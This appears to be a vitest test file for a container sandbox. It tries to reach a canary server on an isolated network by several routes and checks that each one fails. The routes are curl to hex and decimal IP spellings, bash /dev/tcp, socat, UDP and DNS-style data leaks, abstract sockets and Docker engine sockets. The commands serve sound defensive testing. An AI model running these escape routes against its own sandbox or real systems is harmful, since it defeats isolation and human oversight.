import { createServer, type Server } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { execIn } from "../helpers/attack-kernel.ts";
import { type Boxes, createBoxes, type Mode, modes } from "../helpers/both-modes.ts";
import { controlFell } from "../helpers/control.ts";
import { openTestEngine, type TestEngine, type TestSandbox } from "../helpers/sandbox-fixture.ts";
import { sealedUid } from "../helpers/uids.ts";

/** Documentation addresses on a network of the engine's that has no way out: nothing of this reaches a real host. */
const canary = "192.0.2.10";
const answer = "canary-was-here";
const serve = `const say = (s) => s.end("HTTP/1.1 200 OK\\r\\ncontent-length: ${answer.length}\\r\\nconnection: close\\r\\n\\r\\n${answer}");
require("net").createServer((s) => { s.on("error", () => {}); s.once("data", () => { console.log("tcp"); say(s); }); }).listen(80);
for (const port of [53, 443]) { const u = require("dgram").createSocket("udp4"); u.on("message", (m, r) => { console.log("udp"); u.send("${answer}", r.port, r.address); }); u.bind(port); }
console.log("ready");`;
const udp = (port: number, host: string) => [
  ...["node", "-e"],
  `const u = require("dgram").createSocket("udp4"); u.on("error", (e) => { console.log(e.code); process.exit() });
   u.on("message", (m) => { console.log(String(m)); process.exit() }); u.send("hello", ${port}, "${host}", (e) => { if (e) { console.log(e.code); process.exit() } });
   setTimeout(() => { console.log("silence"); process.exit() }, 2000);`,
];
const curl = (...args: string[]) => ["curl", "-s", "-S", "--max-time", "3", ...args];
const attempts: [name: string, rows: string, command: string[]][] = [
  ["HTTP to an address", "[1]", curl("--noproxy", "*", `http://${canary}/`)],
  ["HTTP to a name", "[1]", curl("--noproxy", "*", "http://canary/")],
  ["HTTP to an address in another spelling", "[1]", curl("--noproxy", "*", "http://0xC000020A/")],
  ["HTTP to an address as one number", "[1]", curl("--noproxy", "*", "http://3221225994/")],
  ["TCP from the shell", "[1]", ["bash", "-c", `exec 3<>/dev/tcp/${canary}/80; echo hello >&3; cat <&3`]],
  ["TCP by socat", "[1]", ["bash", "-c", `echo hello | timeout 3 socat -t 2 - TCP4:${canary}:80`]],
  ["UDP to port 443", "[1]", udp(443, canary)],
  ["a DNS question to a server of its own", "[5]", udp(53, canary)],
  ["a name that carries data, by the system's resolver", "[5]", ["bash", "-c", `getent hosts canary && echo ${answer}`]],
];

const sockets = ["/var/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock"];

let engine: TestEngine;
let boxes: Boxes;
let box: TestSandbox;
const both = new Map<Mode, TestSandbox>();
const ids: { network?: string; canary?: string; control?: string; host?: string } = {};
const labels = { "airlock.instance": "test" };
let abstract: Server;
const abstractName = `airlock-canary-${process.pid}`;

beforeAll(async () => {
  engine = await openTestEngine();
  const { docker } = engine.engine;
  const name = `airlock-attacks-${process.pid}`;
  const network = await docker.createNetwork({
    ...{ Name: name, Internal: true, Labels: labels, IPAM: { Driver: "default", Config: [{ Subnet: "192.0.2.0/24" }] } },
  });
  ids.network = network.id;
  const start = async (command: string[], NetworkMode: string, endpoint = {}, Binds: string[] = []) => {
    const container = await docker.createContainer({
      ...{ Image: engine.imageId, Entrypoint: command.slice(0, 1), Cmd: command.slice(1), User: "0:0", Labels: labels },
      HostConfig: { NetworkMode, Binds },
      ...(NetworkMode === name && { NetworkingConfig: { EndpointsConfig: { [name]: endpoint } } }),
    });
    await container.start();
    return container.id;
  };
  ids.canary = await start(["node", "-e", serve], name, { IPAMConfig: { IPv4Address: canary }, Aliases: ["canary"] });
  ids.control = await start(["sleep", "600"], name);
  // What a container that trusts too much is given: the host's namespace and the engine's socket.
  const engineSocket = sockets.map((path) => `/var/run/docker.sock:${path}`);
  ids.host = await start(["sleep", "600"], "host", {}, engineSocket);
  abstract = createServer((socket) => socket.end(answer)).listen(`\0${abstractName}`);
  boxes = createBoxes(engine);
  for (const mode of modes) both.set(mode, await boxes.open(mode));
  box = boxOf("sealed");
}, 400_000);
afterAll(async () => {
  for (const one of both.values()) await one[Symbol.asyncDispose]();
  await boxes?.[Symbol.asyncDispose]();
  abstract?.close();
  const { docker } = engine.engine;
  for (const id of [ids.canary, ids.control, ids.host]) if (id) await docker.getContainer(id).remove({ force: true });
  if (ids.network) await docker.getNetwork(ids.network).remove();
});

const heard = async () => {
  const log = await engine.engine.docker.getContainer(ids.canary ?? "").logs({ stdout: true });
  return (log.toString().match(/tcp|udp/g) ?? []).length;
};
/** What the control got, asked once for each attempt: two users make it in the sandbox. */
const undefended = new Map<string, Promise<string>>();
const inControl = (name: string, command: string[]) => {
  const asked = undefended.get(name) ?? execIn(engine.engine, ids.control ?? "", "0:0", command);
  undefended.set(name, asked);
  return asked;
};
function boxOf(mode: Mode): TestSandbox {
  const found = both.get(mode);
  if (!found) throw new Error(`no ${mode} sandbox is open`);
  return found;
}
const agent = `${sealedUid}:${sealedUid}`;
const inSandbox = (command: string[], user = agent) => execIn(engine.engine, box.handle.containerId, user, command);

describe("a way out of the sandbox", { timeout: 60_000 }, () => {
  for (const user of [agent, "0:0"])
    it.each(attempts)(
      `%s %s, as ${user === "0:0" ? "root without capabilities" : "the sandbox user"}`,
      async (name, rows, command) => {
        expect(rows).toMatch(/^\[\d+\]$/);
        controlFell((await inControl(name, command)).includes(answer), name);
        const before = await heard();
        expect(await inSandbox(command, user)).not.toContain(answer);
        expect(await heard()).toBe(before);
      },
    );

  it.each(["absolute form", "a tunnel"])("[2] the gateway as a proxy, by %s", async (form) => {
    const ask = curl("-x", "http://127.0.0.1:8090", ...(form === "a tunnel" ? ["-p"] : []), `http://${canary}/`);
    const before = await heard();
    expect(await inSandbox(ask)).not.toContain(answer);
    expect(await heard()).toBe(before);
    // Legitimate traffic goes on.
    expect(await inSandbox(curl("http://127.0.0.1:8090/healthz"))).toContain(box.spec.run);
  });
});

describe.each(modes)("the host, from a %s sandbox", { timeout: 60_000 }, (mode) => {
  const inBox = (command: string[], user = "") => {
    const { handle, spec } = boxOf(mode);
    return execIn(engine.engine, handle.containerId, user || `${spec.uid}:${spec.uid}`, command);
  };

  it.each(["the sandbox user", "root without capabilities"])("[53] has no abstract socket for %s", async (who) => {
    const ask = ["bash", "-c", `echo | timeout 3 socat -t 2 - ABSTRACT-CONNECT:${abstractName}`];
    controlFell((await execIn(engine.engine, ids.host ?? "", "0:0", ask)).includes(answer));
    expect(await inBox(ask, who === "the sandbox user" ? "" : "0:0")).not.toContain(answer);
  });

  it.each(sockets)("[7] has no engine's socket at %s", async (path) => {
    const ping = ["curl", "-sS", "--max-time", "3", "--unix-socket", path, "http://engine/_ping"];
    controlFell((await execIn(engine.engine, ids.host ?? "", "0:0", ping)).includes("OK"), "a container that has it mounted");
    expect(await inBox(["ls", path])).toContain("No such file");
    expect(await inBox(ping, "0:0")).not.toContain("OK");
  });
});
